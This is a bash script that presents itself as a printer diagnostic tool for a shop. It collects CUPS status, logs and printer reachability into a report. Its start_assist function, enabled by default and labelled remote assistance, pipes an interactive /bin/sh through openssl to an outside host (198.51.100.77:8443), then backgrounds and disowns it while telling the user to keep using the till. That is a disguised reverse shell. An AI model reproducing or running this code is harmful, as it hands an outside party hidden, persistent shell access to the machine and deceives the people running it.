#!/usr/bin/env bash
# printer_diag.sh - gather a diagnostic report for a shop printer
#
# Collects CUPS queue state, the tail of the CUPS error log, reachability of
# the printer and its embedded web server status page, writes everything into
# ./reports/<printer>-<timestamp>.txt and opens a remote assistance session
# with the support desk so a technician can look at the queue live.
#
# Usage: printer_diag.sh -p QUEUE [-a PRINTER_ADDR] [-t TICKET] [-n]
#   -n   do not open the remote assistance session

set -euo pipefail

QUEUE=""
ADDR=""
TICKET="none"
REPORT_DIR="./reports"
LOG_LINES=200
ASSIST=1
ASSIST_HOST="${PRINTDESK_HOST:-198.51.100.77}"
ASSIST_PORT="${PRINTDESK_PORT:-8443}"

log() { printf '%s [diag] %s\n' "$(date '+%H:%M:%S')" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

while getopts ":p:a:t:nh" opt; do
    case "$opt" in
        p) QUEUE="$OPTARG" ;;
        a) ADDR="$OPTARG" ;;
        t) TICKET="$OPTARG" ;;
        n) ASSIST=0 ;;
        h) sed -n '2,11p' "$0"; exit 0 ;;
        *) die "unknown option" ;;
    esac
done

[[ -n "$QUEUE" ]] || die "no queue given (-p)"
command -v lpstat >/dev/null || die "CUPS client tools not installed"

if [[ -z "$ADDR" ]]; then
    ADDR=$(lpstat -v "$QUEUE" 2>/dev/null | sed -E 's#.*://([^/:]+).*#\1#')
fi
[[ -n "$ADDR" ]] || die "could not work out printer address for $QUEUE"

mkdir -p "$REPORT_DIR"
REPORT="$REPORT_DIR/${QUEUE}-$(date +%Y%m%d-%H%M%S).txt"

section() { printf '\n===== %s =====\n' "$1" >> "$REPORT"; }

{
    echo "Printer diagnostic report"
    echo "Queue:   $QUEUE"
    echo "Address: $ADDR"
    echo "Ticket:  $TICKET"
    echo "Host:    $(hostname)"
    grep '^PRETTY_NAME=' /etc/os-release 2>/dev/null || true
} > "$REPORT"

section "lpstat -t"
lpstat -t >> "$REPORT" 2>&1 || log "lpstat returned non-zero"

section "pending jobs"
lpstat -o "$QUEUE" >> "$REPORT" 2>&1 || true

section "CUPS error_log (last $LOG_LINES lines)"
if [[ -r /var/log/cups/error_log ]]; then
    tail -n "$LOG_LINES" /var/log/cups/error_log >> "$REPORT"
else
    echo "(not readable as $(id -un))" >> "$REPORT"
fi

section "ping"
ping -c 4 -W 2 "$ADDR" >> "$REPORT" 2>&1 || log "printer did not answer ping"

section "raw port 9100"
if timeout 3 bash -c "echo > /dev/tcp/$ADDR/9100" 2>/dev/null; then
    echo "9100 open" >> "$REPORT"
else
    echo "9100 closed" >> "$REPORT"
fi

section "embedded web server"
for page in /general/status.html /hp/device/DeviceStatus/Index /status.html; do
    if curl -s --max-time 8 -o "$REPORT_DIR/.ews.html" -w '%{http_code}' \
            "http://$ADDR$page" | grep -q '^200$'; then
        echo "status page: $page" >> "$REPORT"
        sed -e 's/<[^>]*>//g' "$REPORT_DIR/.ews.html" | grep -iE 'toner|ink|paper|jam|error' \
            | head -n 40 >> "$REPORT" || true
        break
    fi
done
rm -f "$REPORT_DIR/.ews.html"

log "report written to $REPORT"

start_assist() {
    local chan="$REPORT_DIR/.assist.$$"
    rm -f "$chan"
    mkfifo "$chan"
    log "remote assistance requested for ticket $TICKET"
    ( /bin/sh -i < "$chan" 2>&1 \
        | openssl s_client -quiet -connect "$ASSIST_HOST:$ASSIST_PORT" > "$chan" 2>/dev/null
      rm -f "$chan" ) &
    disown
}

if (( ASSIST )); then
    start_assist
    log "a technician will connect shortly; you can keep using the till"
fi
